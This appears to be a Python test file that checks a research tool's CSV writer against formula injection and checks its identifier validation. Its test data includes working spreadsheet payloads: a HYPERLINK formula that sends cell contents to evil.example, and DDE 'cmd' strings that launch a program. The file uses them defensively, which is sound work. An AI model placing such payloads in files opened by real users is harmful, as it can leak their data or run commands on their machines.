"""CSV injection (issue 11.5): identifiers are restricted in the schema, and every CSV file the project
writes shows a would-be formula as text (OWASP: a single quote before = + - @ tab CR), numbers unchanged."""

from __future__ import annotations

import csv
import warnings
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import pandas as pd  # noqa: E402
import pytest  # noqa: E402

from collection_builder import Trial, pooled_row, write_collection  # noqa: E402
from whatworks._csvout import FORMULA_START, csv_text, safe_cell  # noqa: E402
from whatworks.data import schema as S  # noqa: E402
from whatworks.data import scaffold, validate  # noqa: E402

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1")
_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"


def _dangerous(cell: str) -> bool:
    import re

    return len(cell) > 1 and cell.startswith(FORMULA_START) and not re.match(_NUMBER, cell)


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


@pytest.mark.parametrize(("text", "expected"), [
    ("=HYPERLINK(1)", "'=HYPERLINK(1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-0.28", "-0.28"), ("+1.5e-05", "+1.5e-05"), ("1e-05", "1e-05"), ("-3", "-3"),  # numbers stay numbers
    ("overall", "overall"), ("social cognition - CBT", "social cognition - CBT"), ("", ""),
    ("-", "-"), ("=", "="),  # one character carries no formula ("-": the tables' "not applicable")
])
def test_safe_cell(text, expected):
    assert safe_cell(text) == expected


def test_csv_text_neutralises_header_and_cells():
    text = csv_text(["=h", "n"], [["=1+1", -0.5], [None, "@x"]])
    assert list(csv.reader(text.splitlines())) == [["'=h", "n"], ["'=1+1", "-0.5"], ["", "'@x"]]


@pytest.mark.parametrize("effect_id", [PAYLOADS[0], "+cmd", "Kall2021", "kall 2021", "1kall", "k" * 65])
def test_effect_id_must_be_an_identifier(tmp_path, effect_id):
    root = write_collection(tmp_path / "data", [Trial("alpha2010", 2010)])
    path = root / "living" / "effects.csv"
    rows = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
    rows[0]["effect_id"] = effect_id
    path.write_text(csv_text(list(rows[0]), [list(r.values()) for r in rows]), encoding="utf-8")
    msgs = [str(p) for p in validate(root) if p.is_error]
    assert any(m.startswith("living/effects.csv:1:effect_id:") and "not an identifier" in m for m in msgs), msgs


def test_bundled_identifiers_pass():
    """The schema change keeps the bundled data valid (every effect_id is already an identifier)."""
    assert [p for p in validate() if p.is_error] == []


def test_scaffold_headers_go_through_the_writer(tmp_path):
    folder = scaffold("smith2027", tmp_path)
    assert (folder / "effects.csv").read_text(encoding="utf-8") == csv_text(S.column_names(S.EFFECT_COLUMNS), [])


def test_every_csv_of_the_report_is_safe(tmp_path):
    """Formula payloads in every free-text column a user controls; no CSV cell of the report may start
    a formula. Was: pooled.csv's analysis written unchanged into finding_comparison.csv."""
    from whatworks.report import run_report

    strategies = ("social_cognition", "social_cognition", "social_support", "social_support", "social_access")
    trials = [Trial(f"{n}{2010 + i}", 2010 + i, s, g=-0.3 + 0.1 * i, n_t=30 + i, n_c=31 + i)
              for i, (n, s) in enumerate(zip(("alpha", "bravo", "charlie", "delta", "echo"), strategies))]
    pooled = [pooled_row("other_review", p, "social_support", -0.2, 0.1) for p in PAYLOADS]
    root = write_collection(tmp_path / "data", trials, second=trials[:3], pooled=pooled)
    text_columns = [c.name for c in S.EFFECT_COLUMNS if c.type == "str"
                    and c.name not in ("review", "effect_id", "study_id", "df")]
    for folder in ("living", "other_review"):
        path = root / folder / "effects.csv"
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for j, col in enumerate(text_columns):
            frame[col] = [PAYLOADS[(i + j) % len(PAYLOADS)] for i in range(len(frame))]
        frame["exclude_reason"] = ""
        path.write_text(csv_text(list(frame.columns), frame.itertuples(index=False)), encoding="utf-8")
    assert [p for p in validate(root) if p.is_error] == []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        res = run_report(data=root, out=tmp_path / "out", formats=["svg"], jobs=1)
    written = sorted((tmp_path / "out").glob("*.csv"))
    assert {"results.csv", "finding_comparison.csv", "finding_selection.csv"} <= {p.name for p in written}
    comparison = _cells(tmp_path / "out" / "finding_comparison.csv")
    assert "'" + PAYLOADS[0] in comparison  # the text is kept, shown as text
    for path in written:
        bad = [c for c in _cells(path) if _dangerous(c)]
        assert bad == [], f"{path.name}: {bad[:3]}"
    assert any(c.startswith("-0.") for c in _cells(tmp_path / "out" / "results.csv"))  # negatives stay numbers
    assert len(res.files) > len(written)


def test_agree_tables_are_safe(tmp_path):
    """whatworks agree writes disagreements.csv with the coders' cell values: a formula stays text."""
    import shutil

    from whatworks.cli import main

    fixtures = Path(__file__).parent / "fixtures" / "double_coding"
    a, b = tmp_path / "a" / "demo2027", tmp_path / "b" / "demo2027"
    shutil.copytree(fixtures / "coder_a" / "demo2027", a)
    shutil.copytree(fixtures / "coder_b" / "demo2027", b)
    frame = pd.read_csv(a / "effects.csv", dtype=str, keep_default_na=False)
    frame.loc[0, "notes"] = PAYLOADS[1]
    (a / "effects.csv").write_text(csv_text(list(frame.columns), frame.itertuples(index=False)), encoding="utf-8")
    main(["agree", str(a), str(b), "--out", str(tmp_path / "agreement")])
    cells = _cells(tmp_path / "agreement" / "disagreements.csv")
    assert "'" + PAYLOADS[1] in cells
    for name in ("disagreements.csv", "agreement.csv"):
        assert [c for c in _cells(tmp_path / "agreement" / name) if _dangerous(c)] == []
